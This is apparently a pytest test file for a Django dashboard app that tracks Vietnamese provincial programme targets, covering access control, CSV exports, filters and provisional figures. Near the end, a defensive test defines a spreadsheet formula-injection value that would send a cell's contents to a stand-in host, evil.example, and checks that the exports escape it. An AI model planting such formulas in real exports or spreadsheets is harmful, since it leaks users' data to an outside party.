"""Dashboards: programme progress, unit overview, province map and who is behind."""

import csv
import datetime
import io
import re

import pytest
from django.contrib.auth.models import User

from lotrinh.access.models import Membership, Role
from lotrinh.orgunits.models import OrgUnit, Structure

pytestmark = pytest.mark.django_db


@pytest.fixture
def gia_lai_viewer(client):
    user = User.objects.create_user("lanh_dao", password="x")
    Membership.objects.create(
        user=user,
        org_unit=OrgUnit.objects.get(structure=Structure.CURRENT, code="52"),
        role=Role.VIEWER,
    )
    client.force_login(user)
    return client


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_merged_province_sees_its_predecessors_programme_progress(gia_lai_viewer):
    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/").content.decode()
    assert 'data-chart="status-bars"' in page and page.count('class="target-card"') == 37
    assert "vendor/echarts/echarts.min.js" in page


def test_another_province_may_not_see_it(client):
    user = User.objects.create_user("khac", password="x")
    Membership.objects.create(
        user=user,
        org_unit=OrgUnit.objects.get(structure=Structure.CURRENT, code="24"),
        role=Role.VIEWER,
    )
    client.force_login(user)
    assert client.get("/programmes/binh-dinh-05-nq-tu/progress/").status_code == 403


def test_anonymous_visitors_are_asked_to_log_in(client):
    response = client.get("/programmes/binh-dinh-05-nq-tu/progress/")
    assert response.status_code == 302 and "login" in response["Location"]


def test_filters_narrow_the_cards(gia_lai_viewer):
    page = gia_lai_viewer.get(
        "/programmes/binh-dinh-05-nq-tu/progress/", {"pillar": "economy", "year": "2030"}
    )
    assert 0 < page.content.decode().count('class="target-card"') < 37


def test_the_progress_csv_has_every_figure_behind_each_status(gia_lai_viewer):
    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
    assert table[0][:6] == ["indicator", "pillar", "level", "year", "target", "status"]
    assert len(table) == 38 and "ratio" in table[0] and "method_version" in table[0]


def test_the_progress_csv_says_status_method_and_notes_in_words(gia_lai_viewer):
    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
    header, body = table[0], table[1:]
    column = {name: header.index(name) for name in header}
    assert {row[column["method"]] for row in body} == {"statcan_cagr"}
    assert all("Thống kê Canada" in row[column["method_label"]] for row in body)
    assert all(row[column["status_label"]] and row[column["explanation"]] for row in body)
    notes = " ".join(row[column["notes"]] for row in body)
    assert "1/7/2025" in notes and "approximate_split_communes" not in notes


def test_the_progress_page_shows_no_codes_and_no_long_decimals(gia_lai_viewer):
    import re

    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/").content.decode()
    for code in ("statcan_cagr", "approximate_split_communes", "<td>reports</td>", "CAGR"):
        assert code not in page
    assert "báo cáo đã duyệt" in page and "Thống kê Canada" in page
    assert not re.search(r"\d,\d{3}", page), "a figure shown with more than two decimals"


def test_the_unit_overview_shows_completeness_and_a_league_table(gia_lai_viewer):
    page = gia_lai_viewer.get("/units/2025/52/overview/").content.decode()
    assert 'id="completeness"' in page and 'id="league"' in page and 'data-chart="dots"' in page
    table = rows(gia_lai_viewer.get("/units/2025/52/overview/", {"format": "csv"}))
    assert (
        table[0] == ["unit", "code", "expected", "submitted", "rate", "files_online_pct"]
        and len(table) > 50
    )


def test_the_province_map_has_one_tile_per_province_in_each_structure(client):
    for structure, count in (("2025", 34), ("legacy", 63)):
        table = rows(
            client.get(
                "/indicators/ho-so-cong-viec-truc-tuyen/map/",
                {"structure": structure, "format": "csv"},
            )
        )
        assert len(table) == count + 1
        assert any(row[2] for row in table[1:])  # Bình Định / Gia Lai have data


def test_who_is_behind_lists_targets_at_risk_and_late_units(gia_lai_viewer):
    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/")  # computes assessments
    assert page.status_code == 200
    behind = gia_lai_viewer.get("/behind/").content.decode()
    assert 'id="at-risk"' in behind and 'class="status ' in behind
    assert "Xã" in behind or "Phường" in behind  # late communes of Gia Lai


def test_the_province_map_finds_reported_figures_through_the_reports():
    """A province whose only figures are reported (none published) still gets its latest value;
    a province with no approved reports gets none."""
    from lotrinh.dashboards.data import province_map
    from lotrinh.indicators.models import Indicator

    indicator = Indicator.objects.get(code="ho-so-cong-viec-truc-tuyen")
    indicator.observations.all().delete()
    tiles = {t["code"]: t["value"] for t in province_map(indicator, "2025")["tiles"]}
    assert tiles["52"] is not None  # Gia Lai: the illustrative communes' approved reports
    assert tiles["01"] is None  # Hà Nội reports nothing in the sample data


def test_who_is_behind_lists_a_restated_target_once():
    from lotrinh.assessment.models import Assessment
    from lotrinh.assessment.services import assess_programme
    from lotrinh.dashboards.data import who_is_behind
    from lotrinh.indicators.models import Programme, Target

    programme = Programme.objects.get(code="binh-dinh-05-nq-tu")
    assess_programme(programme)
    restated = Target.objects.filter(programme=programme, is_restatement=True).first()
    first = Target.objects.get(
        programme=programme,
        indicator=restated.indicator,
        year=restated.year,
        level=restated.level,
        is_restatement=False,
    )
    Assessment.objects.filter(target__in=[first, restated]).update(status="limited")
    listed = [c["target"].pk for c in who_is_behind().at_risk]
    assert first.pk in listed
    assert restated.pk not in listed
    assert len(listed) == len(set(listed))


def test_who_is_behind_counts_late_units_as_the_unit_overview_does():
    from lotrinh.dashboards.data import unit_dashboard, who_is_behind

    gia_lai = OrgUnit.objects.get(structure=Structure.CURRENT, code="52", tier="province")
    overview = unit_dashboard(gia_lai)
    counts = overview["completeness"]
    rows_of_gia_lai = [
        row
        for row in who_is_behind().late_units
        if row["regime"] == overview["regime"] and row["unit"].path.startswith(gia_lai.path)
    ]
    assert {row["period"] for row in rows_of_gia_lai} == {overview["period"]}
    states = [row["state"] for row in rows_of_gia_lai]
    assert counts.late + counts.pending + counts.missing == len(rows_of_gia_lai) > 0
    assert (states.count("late"), states.count("pending"), states.count("missing")) == (
        counts.late,
        counts.pending,
        counts.missing,
    )


def test_who_is_behind_and_the_unit_overview_name_periods_as_people_do(gia_lai_viewer):
    from lotrinh.dashboards.data import unit_dashboard

    gia_lai = OrgUnit.objects.get(structure=Structure.CURRENT, code="52", tier="province")
    period = unit_dashboard(gia_lai)["period"]
    year, quarter = period.code.split("Q")
    label = f"Quý {dict(zip('1234', ['I', 'II', 'III', 'IV'], strict=True))[quarter]}/{year}"
    behind = gia_lai_viewer.get("/behind/").content.decode()
    overview = gia_lai_viewer.get("/units/2025/52/overview/").content.decode()
    for page in (behind, overview):
        assert label in page
        assert f">{period.code}<" not in page
    reports = [
        r for r in rows(gia_lai_viewer.get("/behind/", {"format": "csv"})) if r[0] == "report"
    ]
    assert reports and {r[3] for r in reports} >= {label}
    assert not {r[3] for r in reports} & {period.code}
    assert {r[4] for r in reports} <= {"trễ hạn", "đã bắt đầu, chưa gửi", "chưa gửi", "đúng hạn"}


def test_a_provisional_figure_is_shown_with_its_completeness_in_the_page_the_csv_and_the_api(
    gia_lai_viewer,
):
    """The newest quarter has no approved report yet (sample data); one commune's approval makes it
    a provisional point: shown with "1/N" in the table, the CSV and the API, and not counted."""
    from lotrinh.assessment.services import assess_programme
    from lotrinh.assessment.tests.test_completeness import submitted_commune_report
    from lotrinh.indicators.models import Programme
    from lotrinh.reporting.models import ReportingRegime, Status
    from lotrinh.reporting.regimes import ensure_periods

    regime = ReportingRegime.objects.get(code="cds-dinh-ky-quy")
    latest = regime.periods.order_by("-cutoff_to").first()
    ensure_periods(regime, latest.cutoff_to + datetime.timedelta(days=100))
    report = submitted_commune_report(regime.periods.order_by("-cutoff_to").first())
    report.status = Status.APPROVED  # the approval and its refresh are tested in assessment
    report.save(update_fields=["status"])
    assess_programme(Programme.objects.get(code="binh-dinh-05-nq-tu"))
    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/").content.decode()
    assert "(tạm tính)" in page and re.search(r"1/\d+ xã đã báo cáo", page)
    english = gia_lai_viewer.get("/en/programmes/binh-dinh-05-nq-tu/progress/").content.decode()
    assert "(provisional)" in english and re.search(r"1/\d+ communes reported", english)

    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
    header = table[0]
    row = next(
        r for r in table[1:] if r[0].startswith("Tỷ lệ hoạt động kiểm tra") and r[3] == "2030"
    )
    newest = dict(zip(header, row, strict=True))
    assert newest["newest_provisional"] == "True" and newest["newest_approved_units"] == "1"
    assert newest["newest_value"] == "62.5" and newest["latest_value"] != "62.5"

    body = gia_lai_viewer.get("/api/v1/programmes/binh-dinh-05-nq-tu/assessments").json()
    item = next(
        i
        for i in body
        if i["target"]["indicator_code"] == "kiem-tra-qua-moi-truong-so"
        and i["target"]["year"] == 2030
    )
    point = item["series"][-1]
    assert point["provisional"] is True and point["counted"] is False and point["approved"] == 1
    assert point["completeness"] == round(1 / point["expected"], 4)
    assert item["latest_value"] != 62.5


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'


def test_a_formula_in_an_indicator_name_is_exported_as_text_in_the_progress_csv(gia_lai_viewer):
    from lotrinh.indicators.models import Target

    target = Target.objects.filter(programme__code="binh-dinh-05-nq-tu").first()
    Target.objects.filter(pk=target.pk).update(indicator_name=HOSTILE_NAME)
    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
    names = [row[0] for row in table[1:]]
    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names


def test_a_formula_in_a_province_name_is_exported_as_text_in_the_map_csv(client):
    OrgUnit.objects.filter(structure=Structure.CURRENT, code="52").update(short_name=HOSTILE_NAME)
    table = rows(client.get("/indicators/ho-so-cong-viec-truc-tuyen/map/", {"format": "csv"}))
    assert next(row[:2] for row in table if row[0] == "52") == ["52", "'" + HOSTILE_NAME]


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ({"year": "abc"}, "“abc” không phải là một lựa chọn của bộ lọc “Năm”"),
        ({"pillar": "nonsense"}, "“nonsense” không phải là một lựa chọn của bộ lọc “Trụ cột”"),
        ({"status": "x", "format": "csv"}, "“x” không phải là một lựa chọn"),
    ],
)
def test_a_filter_value_that_is_not_a_choice_is_explained_and_ignored(gia_lai_viewer, query, named):
    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", query)
    text = page.content.decode()
    assert page.status_code == 400 and page["Content-Type"].startswith("text/html")
    assert named in text and "is not one of the choices of the filter" in text
    # The bad filter is not applied: every target is shown, not none.
    assert text.count('class="target-card"') == 37
